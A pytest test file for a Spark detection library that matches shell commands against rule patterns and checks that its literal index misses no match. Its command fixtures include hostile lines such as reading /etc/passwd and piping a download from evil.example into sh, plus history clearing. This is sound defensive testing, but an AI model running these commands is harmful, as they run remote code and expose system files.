"""The literal index over rules: no pattern is left out that would match."""

import random
import re

import pytest
from pyspark.sql import functions as F

from siltstream.functions.shell import segments
from siltstream.operators import detect as D
from siltstream.operators import rules as R
from siltstream.operators.literals import needed_literals


@pytest.mark.parametrize(
    ("pattern", "needs"),
    [
        ("wget", {"wget"}), (r"^cat\s+/etc/passwd", {"/etc/passwd"}), ("ab+c", {"a", "b", "c"}), ("(abc|de)f*", {"abc", "de"}), ("x(abc)?", {"x"}), ("(?=.*key)a", {"key"}),
        ("(?!key)a", {"a"}), ("a*", None), ("(abc|)", None), ("[ab]", None), (r"\d+", None), ("(?i)wget", None), ("(?i:wget)", None), (r"\0101bc", None), ("[a[b]c]d", None),
        ("[]a]b", None), (r"\Qa.b\E", None), (r"\p{Alpha}abc", None), ("(", None), ("(?x)a b", None), ("(?>abc)d", {"abc"}), ("(ab){0,3}c", {"c"}), ("a{2}", {"a"}),
    ],
)
def test_needed_literals(pattern, needs):
    got = needed_literals(pattern)
    if needs is None:
        assert got is None
    else:
        assert got is not None and (got == needs or (len(got) == 1 and got <= needs))


def test_what_matches_holds_a_literal():
    """Random patterns on random texts."""
    r = random.Random(5)

    def pattern(depth):
        kind = r.randrange(7 if depth else 2)
        if kind < 2:
            return "".join(r.choice(["a", "b", "c", ".", "[ab]", r"\s"]) for _ in range(r.randint(1, 3)))
        if kind == 2:
            return "(" + "|".join(pattern(depth - 1) for _ in range(r.randint(1, 3))) + ")"
        if kind == 3:
            return f"({pattern(depth - 1)}){r.choice('?*+')}"
        if kind == 4:
            return f"({pattern(depth - 1)}){{{r.choice(['2', '0,1', '1,2'])}}}"
        if kind == 5:
            return f"(?{r.choice('=!')}{pattern(depth - 1)})" + pattern(depth - 1)
        return pattern(depth - 1) + pattern(depth - 1)

    matched = 0
    for _ in range(3000):
        p = pattern(3)
        needs, found = needed_literals(p), re.compile(p)
        for _ in range(6):
            text = "".join(r.choice("abc ") for _ in range(r.randint(0, 8)))
            if found.search(text):
                matched += 1
                assert needs is None or any(n in text for n in needs), (p, text)
    assert matched > 1000


COMMANDS = [
    "", " ", "uname -a", "cat /etc/passwd; wget http://evil.example/x -O- | sh", "w", "sudo crontab -l", "echo 'history' && history -c", "KILL x", "bash -c 'id; uname'",
    "rm -rf /tmp/x; ./x", "x" * 70_000 + "; uname -a", "WGET http://evil.example", 'echo "unclosed; whoami', "cat /proc/cpuinfo | grep name | wc -l", "$(which ls)", "chmod 777 /tmp/x", None, "uname -a",
]


def test_same_matches_as_all_patterns(spark):
    """With the index as with every pattern tried; rules without literals and in other scopes too; null, empty, very long and repeated commands."""
    more = [("any-case", "T1082", "low", "segment", "(?i)wget"), ("digits", "T1082", "low", "command", r"\d{3}"), ("quoted", "T1082", "low", "command", r"\Qx -O\E|'un"), ("quote'd", "T1082", "low", "command", r"\bw\b"), ("empty", "T1082", "low", "segment", "$")]
    rules = [*R.RULES, *more]
    df = spark.createDataFrame([(c,) for c in COMMANDS], "command string")
    got = {(r.command, m.rule, m.evidence) for r in D.map_distinct_commands(df, rules).collect() for m in r.matches}

    plain = df.where("command is not null").distinct().select("command", D.bound_command(F.col("command")).alias("bounded"))
    texts = [(r.command, scope, i, t) for r in plain.collect() for scope, each in (("command", [r.bounded]), ("segment", segments(r.bounded))) for i, t in enumerate(each)]
    texts = spark.createDataFrame(texts, "command string, scope string, i int, text string")
    every = texts.select("*", F.array(*[F.when((F.col("scope") == r[3]) & F.col("text").rlike("(?Ud)" + r[4]), r[0]) for r in rules]).alias("rules")).select("*", F.explode(F.array_compact("rules")).alias("rule"))
    expected = {(r.command, r.rule, r.evidence) for r in every.groupBy("command", "rule").agg(F.substring(F.min_by("text", "i"), 1, D.EVIDENCE).alias("evidence")).collect()}
    assert got == expected and {"any-case", "digits", "quoted", "empty"} <= {r for _, r, _ in got}


def test_patterns_tried(spark):
    """Few of the rules are tried on a command; of an empty table no row is left."""
    df = spark.createDataFrame([(c,) for c in COMMANDS], "command string")
    assert D.map_commands(df.selectExpr("'s' as session_id", "0L as ord", "command"), []).count() == 0
    n = {r.tried: r.commands for r in D.patterns_tried(df).collect()}
    assert sum(n.values()) == len({c for c in COMMANDS if c is not None}) and max(n) < len(R.RULES) / 3
    assert D.patterns_tried(df.limit(0)).count() == 0 and D.map_distinct_commands(df.limit(0)).count() == 0
    assert D.map_distinct_commands(df, []).selectExpr("sum(size(matches)) as n").first().n == 0
